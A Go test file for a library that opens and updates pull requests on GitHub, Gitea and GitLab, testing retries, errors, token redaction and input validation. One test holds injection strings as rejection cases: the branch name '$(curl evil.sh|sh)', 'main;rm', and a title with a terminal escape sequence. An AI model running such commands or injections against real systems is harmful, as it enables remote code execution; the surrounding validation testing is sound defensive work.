package forge_test

import (
	"context"
	"errors"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/kbsync/kbsync/kb/forge"
)

const head = "kbsync/nightly"

// platform describes, per forge, how the fake shows what Ensure asked for.
type platform struct {
	name       string
	newFake    func(*testing.T) fake
	createPath string // suffix of the create call
	listPath   string // suffix of the list call
	editMethod string // PATCH, or PUT on GitLab
	// people checks reviewers and assignees on the created request.
	people func(t *testing.T, p *fakePR, warns []string)
}

var platforms = []platform{
	{
		name: "github", newFake: func(t *testing.T) fake { return newGitHubFake(t) },
		createPath: "/repos/o/r/pulls", listPath: "/repos/o/r/pulls", editMethod: http.MethodPatch,
		people: func(t *testing.T, p *fakePR, warns []string) {
			if !slices.Equal(p.Reviewers, []string{"alice"}) || !slices.Equal(p.TeamReviewers, []string{"docs-team"}) ||
				!slices.Equal(p.Assignees, []string{"bob"}) {
				t.Errorf("reviewers %v, team reviewers %v, assignees %v; want [alice] [docs-team] [bob]", p.Reviewers, p.TeamReviewers, p.Assignees)
			}
			if len(warns) != 0 {
				t.Errorf("warnings: %q", warns)
			}
		},
	},
	{
		name: "gitea", newFake: func(t *testing.T) fake { return newGiteaFake(t) },
		createPath: "/repos/o/r/pulls", listPath: "/repos/o/r/pulls", editMethod: http.MethodPatch,
		people: func(t *testing.T, p *fakePR, warns []string) {
			if !slices.Equal(p.Reviewers, []string{"alice"}) || !slices.Equal(p.TeamReviewers, []string{"docs-team"}) ||
				!slices.Equal(p.Assignees, []string{"bob"}) {
				t.Errorf("reviewers %v, team reviewers %v, assignees %v; want [alice] [docs-team] [bob]", p.Reviewers, p.TeamReviewers, p.Assignees)
			}
			if len(warns) != 0 {
				t.Errorf("warnings: %q", warns)
			}
		},
	},
	{
		name: "gitlab", newFake: func(t *testing.T) fake { return newGitLabFake(t) },
		createPath: "/projects/g%2Fs%2Fr/merge_requests", listPath: "/projects/g%2Fs%2Fr/merge_requests", editMethod: http.MethodPut,
		people: func(t *testing.T, p *fakePR, warns []string) {
			if !slices.Equal(p.ReviewerIDs, []int{11}) || !slices.Equal(p.AssigneeIDs, []int{12}) {
				t.Errorf("reviewer ids %v, assignee ids %v; want [11] [12] (alice, bob)", p.ReviewerIDs, p.AssigneeIDs)
			}
			// GitLab has no team reviewers: the group is reported, not dropped silently.
			if len(warns) != 1 || !strings.Contains(warns[0], `"org/docs-team" is a group`) {
				t.Errorf("warnings %q; want one about org/docs-team", warns)
			}
		},
	},
}

func baseRequest() forge.Request {
	return forge.Request{
		Head: head, Base: "main", Title: "kbsync: 2 new FAQ articles", Body: "| action | title |\n|---|---|\n| new | How do I descale? |\n",
		Labels: []string{"kbsync", "docs"}, Reviewers: []string{"alice", "@org/docs-team"}, Assignees: []string{"bob"}, Draft: true,
	}
}

func ensure(t *testing.T, p forge.Provider, req forge.Request) forge.Result {
	t.Helper()
	res, err := p.Ensure(context.Background(), req)
	if err != nil {
		t.Fatalf("Ensure: %v", err)
	}
	return res
}

func hasLabels(p *fakePR, want ...string) bool {
	for _, w := range want {
		if !slices.ContainsFunc(p.Labels, func(l string) bool { return strings.EqualFold(l, w) }) {
			return false
		}
	}
	return true
}

// TestEnsureLifecycle runs the nightly sequence on each platform: create,
// update with a new body, unchanged (labels restored), close when empty,
// then nothing to do.
func TestEnsureLifecycle(t *testing.T) {
	for _, pf := range platforms {
		t.Run(pf.name, func(t *testing.T) {
			f := pf.newFake(t)
			c := f.core()
			p, _ := newProvider(t, f)
			req := baseRequest()

			res := ensure(t, p, req)
			open := c.open(head)
			if res.Operation != forge.Created || len(open) != 1 || res.Number != open[0].Number || res.URL == "" {
				t.Fatalf("first run: %+v, %d open; want created, one open", res, len(open))
			}
			pr := open[0]
			if !pr.Draft || !strings.HasSuffix(pr.Title, req.Title) || pr.Body != req.Body || pr.Base != "main" {
				t.Errorf("created %+v; want a draft with the title and body", pr)
			}
			if !hasLabels(pr, "kbsync", "docs") {
				t.Errorf("labels %v; want kbsync and docs", pr.Labels)
			}
			pf.people(t, pr, res.Warnings)

			req.Body += "| update | Grinder too loud |\n"
			res = ensure(t, p, req)
			if res.Operation != forge.Updated || res.Number != pr.Number {
				t.Errorf("second run: %+v; want updated #%d", res, pr.Number)
			}
			if n := len(c.open(head)); n != 1 || c.total() != 1 {
				t.Fatalf("second run left %d open, %d in all; want exactly one", n, c.total())
			}
			if got := c.get(pr.Number); got.Body != req.Body || !got.Draft {
				t.Errorf("after update: body %q draft %v; want the new body, still a draft", got.Body, got.Draft)
			}

			// Someone removed the labels: the unchanged run puts them back.
			c.setLabels(pr.Number)
			res = ensure(t, p, req)
			if res.Operation != forge.Unchanged || res.Number != pr.Number || len(res.Warnings) != 0 {
				t.Errorf("third run: %+v; want unchanged #%d, no warnings", res, pr.Number)
			}
			if got := c.get(pr.Number); !hasLabels(got, "kbsync", "docs") {
				t.Errorf("labels %v after the unchanged run; want kbsync and docs back", got.Labels)
			}
			if n := c.count(http.MethodPost, pf.createPath); n != 1 {
				t.Errorf("%d create calls; want 1", n)
			}
			edits := c.count(pf.editMethod, "/"+strconv.Itoa(pr.Number))

			// A fourth identical run changes nothing at all.
			res = ensure(t, p, req)
			if res.Operation != forge.Unchanged || c.count(pf.editMethod, "/"+strconv.Itoa(pr.Number)) != edits {
				t.Errorf("fourth run: %+v and %d more edits; want unchanged, no edit", res,
					c.count(pf.editMethod, "/"+strconv.Itoa(pr.Number))-edits)
			}

			res = ensure(t, p, forge.Request{Head: head, Base: "main", CloseIfEmpty: true})
			if res.Operation != forge.Closed || res.Number != pr.Number {
				t.Errorf("close run: %+v; want closed #%d", res, pr.Number)
			}
			if got := c.get(pr.Number); got.State != "closed" {
				t.Errorf("state %q; want closed", got.State)
			}
			if c.hasBranch(head) {
				t.Errorf("branch %s still exists; want it deleted", head)
			}
			if !c.hasBranch("main") {
				t.Errorf("base branch deleted")
			}

			res = ensure(t, p, forge.Request{Head: head, Base: "main", CloseIfEmpty: true})
			if res.Operation != forge.Nothing || res.Number != 0 {
				t.Errorf("empty run with nothing open: %+v; want operation \"\"", res)
			}
		})
	}
}

// TestEnsureTitleChange updates the title and keeps the draft marker the
// request has now (a reviewer who marked it ready keeps it ready).
func TestEnsureTitleChange(t *testing.T) {
	for _, pf := range platforms {
		t.Run(pf.name, func(t *testing.T) {
			f := pf.newFake(t)
			p, _ := newProvider(t, f)
			req := baseRequest()
			first := ensure(t, p, req)
			req.Title = "kbsync: 3 new FAQ articles"
			req.Draft = false
			res := ensure(t, p, req)
			got := f.core().get(first.Number)
			if res.Operation != forge.Updated || !strings.HasSuffix(got.Title, req.Title) || !got.Draft {
				t.Errorf("%+v, title %q draft %v; want updated, new title, still draft", res, got.Title, got.Draft)
			}
		})
	}
}

// TestEnsureDuplicates: with two open requests for the branch, the oldest
// is updated, the run says so, and nothing new is created.
func TestEnsureDuplicates(t *testing.T) {
	for _, pf := range platforms {
		t.Run(pf.name, func(t *testing.T) {
			f := pf.newFake(t)
			c := f.core()
			old := c.seed(head, "main", "kbsync: old", "old body", false)
			newer := c.seed(head, "release", "kbsync: newer", "newer body", false)
			c.addBranch("release")
			p, _ := newProvider(t, f)

			res := ensure(t, p, baseRequest())
			if res.Operation != forge.Updated || res.Number != old {
				t.Errorf("%+v; want updated #%d", res, old)
			}
			want := "#" + strconv.Itoa(old) + ", #" + strconv.Itoa(newer)
			if len(res.Warnings) != 1 || !strings.Contains(res.Warnings[0], want) || !strings.Contains(res.Warnings[0], "oldest") {
				t.Errorf("warnings %q; want one naming %s and the oldest", res.Warnings, want)
			}
			if c.count(http.MethodPost, pf.createPath) != 0 || c.total() != 2 {
				t.Errorf("created a request; want none")
			}
			if got := c.get(newer); got.Body != "newer body" || got.Base != "release" {
				t.Errorf("the newer duplicate was changed: %+v", got)
			}
			if got := c.get(old); got.Body != baseRequest().Body {
				t.Errorf("oldest body %q; want the request's", got.Body)
			}

			res = ensure(t, p, forge.Request{Head: head, Base: "main", CloseIfEmpty: true})
			if res.Operation != forge.Closed || res.Number != old || len(c.open(head)) != 0 || c.hasBranch(head) {
				t.Errorf("%+v, %d still open; want all closed and the branch deleted", res, len(c.open(head)))
			}
		})
	}
}

// TestEnsureAlreadyExists: the list misses an open request (a stale index
// or a concurrent run), the create is refused as a duplicate, and Ensure
// looks it up and updates it (security case 69).
func TestEnsureAlreadyExists(t *testing.T) {
	for _, pf := range platforms {
		t.Run(pf.name, func(t *testing.T) {
			f := pf.newFake(t)
			c := f.core()
			n := c.seed(head, "main", "kbsync: 2 new FAQ articles", "stale", false)
			c.hideLists = 1
			p, _ := newProvider(t, f)
			res := ensure(t, p, baseRequest())
			if res.Operation != forge.Updated || res.Number != n || c.total() != 1 {
				t.Fatalf("%+v with %d requests; want #%d updated, one request", res, c.total(), n)
			}
			if len(res.Warnings) != 1 || !strings.Contains(res.Warnings[0], "one exists") {
				t.Errorf("warnings %q; want one about the existing request", res.Warnings)
			}
			if got := c.get(n); got.Body != baseRequest().Body {
				t.Errorf("body %q; want updated", got.Body)
			}
		})
	}
}

// TestEnsureIgnoresForks: a fork's branch with the same name is someone
// else's request: never updated, closed or deleted.
func TestEnsureIgnoresForks(t *testing.T) {
	for _, pf := range platforms {
		t.Run(pf.name, func(t *testing.T) {
			f := pf.newFake(t)
			c := f.core()
			fork := c.seed(head, "main", "a contributor's change", "theirs", true)
			p, _ := newProvider(t, f)
			res := ensure(t, p, forge.Request{Head: head, Base: "main", CloseIfEmpty: true})
			if res.Operation != forge.Nothing || c.get(fork).State != "open" || !c.hasBranch(head) {
				t.Errorf("%+v; want nothing done to the fork's request or our branch", res)
			}
			res = ensure(t, p, baseRequest())
			if res.Operation != forge.Created || res.Number == fork || c.get(fork).Body != "theirs" {
				t.Errorf("%+v; want a new request and the fork's untouched", res)
			}
		})
	}
}

// TestEnsureBodyLimit applies each platform's body limit.
func TestEnsureBodyLimit(t *testing.T) {
	line := "| new | " + strings.Repeat("a long customer question ", 4) + "|\n"
	body := strings.Repeat(line, 70000/len(line)+1)
	limits := map[string]int{"github": forge.GitHubBodyLimit, "gitea": forge.GiteaBodyLimit, "gitlab": forge.GitLabBodyLimit}
	for _, pf := range platforms {
		t.Run(pf.name, func(t *testing.T) {
			f := pf.newFake(t)
			p, _ := newProvider(t, f)
			req := baseRequest()
			req.Body = body
			res := ensure(t, p, req)
			got := f.core().get(res.Number).Body
			limit := limits[pf.name]
			switch {
			case len(body) <= limit && got != body:
				t.Errorf("body of %d bytes changed under a %d limit", len(body), limit)
			case len(body) > limit && (len(got) > limit || !strings.Contains(got, "truncated")):
				t.Errorf("body of %d bytes sent as %d bytes (limit %d), note present: %v", len(body), len(got), limit, strings.Contains(got, "truncated"))
			}
			// The next run compares against the truncated body: unchanged.
			if res := ensure(t, p, req); res.Operation != forge.Unchanged {
				t.Errorf("second run %q; want unchanged", res.Operation)
			}
		})
	}
}

// TestEnsureErrors: each refusal becomes an *forge.Error naming the
// platform, the status and what to fix, without the token, even when the
// server echoes it.
func TestEnsureErrors(t *testing.T) {
	cases := []struct {
		status int
		header http.Header
		hint   string
	}{
		{http.StatusUnauthorized, nil, "set KBSYNC_TOKEN to a token with"},
		{http.StatusForbidden, nil, "give the token"},
		{http.StatusNotFound, nil, "check publish.repo"},
		{http.StatusUnprocessableEntity, nil, "check that the branch was pushed"},
		{http.StatusInternalServerError, nil, "try again later"},
		{http.StatusBadGateway, nil, "try again later"},
		{http.StatusForbidden, http.Header{"X-Ratelimit-Remaining": {"0"},
			"X-Ratelimit-Reset": {strconv.FormatInt(time.Now().Add(time.Hour).Unix(), 10)}}, "rate limit exceeded"},
	}
	for _, pf := range platforms {
		for _, tc := range cases {
			t.Run(pf.name+"/"+strconv.Itoa(tc.status)+tc.hint, func(t *testing.T) {
				f := pf.newFake(t)
				echo := `{"message":"token ` + canary + ` refused at https://x:` + canary + `@host/?private_token=` + canary + `"}`
				f.core().inject(http.MethodPost, pf.createPath, tc.status, tc.header, echo, -1)
				p, _ := newProvider(t, f)
				_, err := p.Ensure(context.Background(), baseRequest())
				var fe *forge.Error
				if !errors.As(err, &fe) {
					t.Fatalf("error %v (%T); want *forge.Error", err, err)
				}
				msg := err.Error()
				if fe.Status != tc.status || !strings.HasPrefix(msg, pf.name+": "+strconv.Itoa(tc.status)) ||
					!strings.Contains(msg, "creating "+f.kind()) || !strings.Contains(msg, tc.hint) {
					t.Errorf("error %q; want %s, status %d, creating %s, hint %q", msg, pf.name, tc.status, f.kind(), tc.hint)
				}
				if strings.Contains(msg, canary) || strings.Contains(fe.Detail, canary) {
					t.Errorf("token leaked: %q", msg)
				}
				for e := error(fe); e != nil; e = errors.Unwrap(e) {
					if strings.Contains(e.Error(), canary) {
						t.Errorf("token in the error chain: %q", e.Error())
					}
				}
				// POST is not idempotent: a refused create is not repeated.
				if n := f.core().count(http.MethodPost, pf.createPath); n != 1 {
					t.Errorf("%d create calls; want 1", n)
				}
			})
		}
	}
}

// TestEnsureUnauthorizedToken: a wrong token gets the real 401 path of
// each fake and the token-specific hint.
func TestEnsureUnauthorizedToken(t *testing.T) {
	for _, pf := range platforms {
		t.Run(pf.name, func(t *testing.T) {
			f := pf.newFake(t)
			wrong := "kbsync-wrong-token-5b2e"
			p, err := forge.New(f.config(), wrong, f.core().srv.Client())
			if err != nil {
				t.Fatal(err)
			}
			_, err = p.Ensure(context.Background(), baseRequest())
			var fe *forge.Error
			if !errors.As(err, &fe) || fe.Status != http.StatusUnauthorized || !strings.Contains(err.Error(), "KBSYNC_TOKEN") ||
				!strings.Contains(err.Error(), "listing") {
				t.Fatalf("error %v; want a 401 while listing that names KBSYNC_TOKEN", err)
			}
			if strings.Contains(err.Error(), wrong) {
				t.Errorf("token leaked: %q", err)
			}
		})
	}
}

// TestEnsureRetries: idempotent calls are retried on 5xx with the injected
// sleep; rate limits are waited out when they reset soon; creates are not
// repeated after a 5xx.
func TestEnsureRetries(t *testing.T) {
	for _, pf := range platforms {
		t.Run(pf.name+"/list 502 twice", func(t *testing.T) {
			f := pf.newFake(t)
			f.core().inject(http.MethodGet, pf.listPath, http.StatusBadGateway, nil, `{"message":"bad gateway"}`, 2)
			p, s := newProvider(t, f)
			if res := ensure(t, p, baseRequest()); res.Operation != forge.Created {
				t.Errorf("%+v; want created", res)
			}
			if s.count() != 2 || f.core().count(http.MethodGet, pf.listPath) < 3 {
				t.Errorf("%d sleeps, %d list calls; want 2 sleeps, 3 list calls", s.count(), f.core().count(http.MethodGet, pf.listPath))
			}
		})
		t.Run(pf.name+"/list 503 always", func(t *testing.T) {
			f := pf.newFake(t)
			f.core().inject(http.MethodGet, pf.listPath, http.StatusServiceUnavailable, nil, `{"message":"down"}`, -1)
			p, s := newProvider(t, f)
			_, err := p.Ensure(context.Background(), baseRequest())
			var fe *forge.Error
			if !errors.As(err, &fe) || fe.Status != http.StatusServiceUnavailable || !strings.Contains(err.Error(), "try again later") {
				t.Fatalf("error %v; want a 503 saying to try again later", err)
			}
			if n := f.core().count(http.MethodGet, pf.listPath); n != 4 || s.count() != 3 {
				t.Errorf("%d attempts, %d sleeps; want 4 attempts, 3 sleeps (bounded)", n, s.count())
			}
			for i, d := range s.d {
				if d <= 0 || d > 8*time.Second {
					t.Errorf("sleep %d is %v; want a short positive backoff", i, d)
				}
			}
		})
		t.Run(pf.name+"/create 429 then ok", func(t *testing.T) {
			f := pf.newFake(t)
			f.core().inject(http.MethodPost, pf.createPath, http.StatusTooManyRequests, http.Header{"Retry-After": {"2"}}, `{"message":"slow down"}`, 1)
			p, s := newProvider(t, f)
			if res := ensure(t, p, baseRequest()); res.Operation != forge.Created || f.core().total() != 1 {
				t.Errorf("%+v; want created once", res)
			}
			if s.count() != 1 || s.d[0] < 2*time.Second || s.d[0] > 4*time.Second {
				t.Errorf("sleeps %v; want one of about Retry-After (2s)", s.d)
			}
		})
		t.Run(pf.name+"/create 502 not repeated", func(t *testing.T) {
			f := pf.newFake(t)
			f.core().inject(http.MethodPost, pf.createPath, http.StatusBadGateway, nil, `{"message":"bad gateway"}`, 1)
			p, _ := newProvider(t, f)
			_, err := p.Ensure(context.Background(), baseRequest())
			var fe *forge.Error
			if !errors.As(err, &fe) || fe.Status != http.StatusBadGateway || f.core().count(http.MethodPost, pf.createPath) != 1 {
				t.Errorf("error %v after %d creates; want the 502, one create", err, f.core().count(http.MethodPost, pf.createPath))
			}
		})
		t.Run(pf.name+"/edit 500 once", func(t *testing.T) {
			f := pf.newFake(t)
			n := f.core().seed(head, "main", "kbsync: 2 new FAQ articles", "stale", false)
			f.core().inject(pf.editMethod, "/"+strconv.Itoa(n), http.StatusInternalServerError, nil, `{"message":"oops"}`, 1)
			p, s := newProvider(t, f)
			if res := ensure(t, p, baseRequest()); res.Operation != forge.Updated || f.core().get(n).Body != baseRequest().Body {
				t.Errorf("%+v; want updated after one retry", res)
			}
			if s.count() != 1 {
				t.Errorf("%d sleeps; want 1", s.count())
			}
		})
	}
	t.Run("github/403 rate limit resets soon", func(t *testing.T) {
		f := newGitHubFake(t)
		reset := strconv.FormatInt(time.Now().Add(5*time.Second).Unix(), 10)
		f.c.inject(http.MethodPost, "/repos/o/r/pulls", http.StatusForbidden,
			http.Header{"X-Ratelimit-Remaining": {"0"}, "X-Ratelimit-Reset": {reset}},
			`{"message":"API rate limit exceeded for user ID 1."}`, 1)
		p, s := newProvider(t, f)
		if res := ensure(t, p, baseRequest()); res.Operation != forge.Created {
			t.Errorf("%+v; want created", res)
		}
		if s.count() != 1 || s.d[0] > 7*time.Second {
			t.Errorf("sleeps %v; want one wait until the reset", s.d)
		}
	})
}

// TestEnsureTimeout: a server that does not answer is cut off by the call
// timeout, and the error says so and unwraps to DeadlineExceeded.
func TestEnsureTimeout(t *testing.T) {
	for _, pf := range platforms {
		t.Run(pf.name, func(t *testing.T) {
			f := pf.newFake(t)
			f.core().hang = 5 * time.Second
			p, _ := newProvider(t, f, forge.WithCallTimeout(50*time.Millisecond))
			start := time.Now()
			_, err := p.Ensure(context.Background(), baseRequest())
			if !errors.Is(err, context.DeadlineExceeded) || !strings.Contains(err.Error(), "timed out") ||
				!strings.HasPrefix(err.Error(), pf.name+": ") {
				t.Errorf("error %v; want a timeout naming %s", err, pf.name)
			}
			if d := time.Since(start); d > 3*time.Second {
				t.Errorf("took %v; want the call bounded", d)
			}
		})
	}
	t.Run("caller's context", func(t *testing.T) {
		f := newGitHubFake(t)
		f.c.hang = 5 * time.Second
		p, s := newProvider(t, f)
		ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
		defer cancel()
		_, err := p.Ensure(ctx, baseRequest())
		if !errors.Is(err, context.DeadlineExceeded) || s.count() != 0 {
			t.Errorf("error %v after %d retries; want the deadline, no retry", err, s.count())
		}
	})
}

// TestEnsureDecorationWarnings: a reviewer or assignee the platform
// refuses does not fail the run; the request is created and the run warns.
func TestEnsureDecorationWarnings(t *testing.T) {
	for _, pf := range platforms {
		t.Run(pf.name, func(t *testing.T) {
			f := pf.newFake(t)
			p, _ := newProvider(t, f)
			req := baseRequest()
			req.Reviewers = []string{"zed"}
			req.Assignees = nil
			res := ensure(t, p, req)
			if res.Operation != forge.Created || len(res.Warnings) != 1 || !strings.Contains(res.Warnings[0], "reviewer") {
				t.Errorf("%+v; want created with one warning about reviewer zed", res)
			}
			for _, w := range res.Warnings {
				if strings.Contains(w, canary) {
					t.Errorf("token in warning %q", w)
				}
			}
		})
	}
}

func TestGitHubDraftUnsupported(t *testing.T) {
	f := newGitHubFake(t)
	f.c.inject(http.MethodPost, "/repos/o/r/pulls", http.StatusUnprocessableEntity, nil,
		`{"message":"Validation Failed","errors":[{"resource":"PullRequest","code":"custom","message":"Draft pull requests are not supported in this repository."}]}`, 1)
	p, _ := newProvider(t, f)
	res := ensure(t, p, baseRequest())
	if res.Operation != forge.Created || f.c.get(res.Number).Draft {
		t.Errorf("%+v; want a ready pull request", res)
	}
	if !slices.ContainsFunc(res.Warnings, func(w string) bool { return strings.Contains(w, "draft") }) {
		t.Errorf("warnings %q; want one about drafts", res.Warnings)
	}
}

// TestEnsureRejectsUnsafeRequests: branch names and titles that could
// inject into a workflow's run: line never reach the API (security case 66).
func TestEnsureRejectsUnsafeRequests(t *testing.T) {
	cases := []forge.Request{
		{Head: "$(curl evil.sh|sh)", Base: "main", Title: "t"},
		{Head: "a b", Base: "main", Title: "t"},
		{Head: "../x", Base: "main", Title: "t"},
		{Head: "x.lock", Base: "main", Title: "t"},
		{Head: "", Base: "main", Title: "t"},
		{Head: "main", Base: "main", Title: "t"},
		{Head: head, Base: "main;rm", Title: "t"},
		{Head: head, Base: "main", Title: "x\x1b]52;c;Zm9v\x07"},
		{Head: head, Base: "main", Title: "two\nlines"},
		{Head: head, Base: "main", Title: "  "},
	}
	for _, pf := range platforms {
		f := pf.newFake(t)
		p, _ := newProvider(t, f)
		for _, req := range cases {
			_, err := p.Ensure(context.Background(), req)
			var fe *forge.Error
			if !errors.As(err, &fe) || fe.Status != 0 || !strings.HasPrefix(err.Error(), pf.name+": ") {
				t.Errorf("%s %+v: error %v; want a request error", pf.name, req, err)
			}
			if strings.ContainsAny(err.Error(), "\x1b\x07\n") {
				t.Errorf("%s: control characters in %q", pf.name, err)
			}
		}
		if n := f.core().callCount(); n != 0 {
			t.Errorf("%s: %d API calls for invalid requests; want none", pf.name, n)
		}
	}
}

func TestNewRejectsBadConfig(t *testing.T) {
	cases := []struct {
		name  string
		cfg   forge.Config
		token string
		want  string
	}{
		{"no token", forge.Config{Provider: "github", Repo: "o/r"}, "", "KBSYNC_TOKEN"},
		{"no provider", forge.Config{Repo: "o/r"}, canary, "publish.provider"},
		{"unknown provider", forge.Config{Provider: "bitbucket", Repo: "o/r"}, canary, "publish.provider"},
		{"github repo path", forge.Config{Provider: "github", Repo: "o/r/x"}, canary, "publish.repo"},
		{"gitea repo", forge.Config{Provider: "gitea", APIURL: "https://gitea.example.com", Repo: "o"}, canary, "publish.repo"},
		{"gitlab repo", forge.Config{Provider: "gitlab", Repo: "r"}, canary, "publish.repo"},
		{"gitea without api_url", forge.Config{Provider: "gitea", Repo: "o/r"}, canary, "publish.api_url"},
		{"credentials in api_url", forge.Config{Provider: "gitlab", APIURL: "https://oauth2:" + canary + "@gitlab.example.com/", Repo: "g/r"}, canary, "publish.api_url"},
		{"token query in api_url", forge.Config{Provider: "github", APIURL: "https://ghe.example.com/api/v3/?access_token=" + canary, Repo: "o/r"}, canary, "publish.api_url"},
		{"not http", forge.Config{Provider: "gitea", APIURL: "file:///etc", Repo: "o/r"}, canary, "publish.api_url"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := forge.New(tc.cfg, tc.token, nil)
			var fe *forge.Error
			if !errors.As(err, &fe) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error %v; want one naming %s", err, tc.want)
			}
			if strings.Contains(err.Error(), canary) {
				t.Errorf("token leaked: %q", err)
			}
		})
	}
}
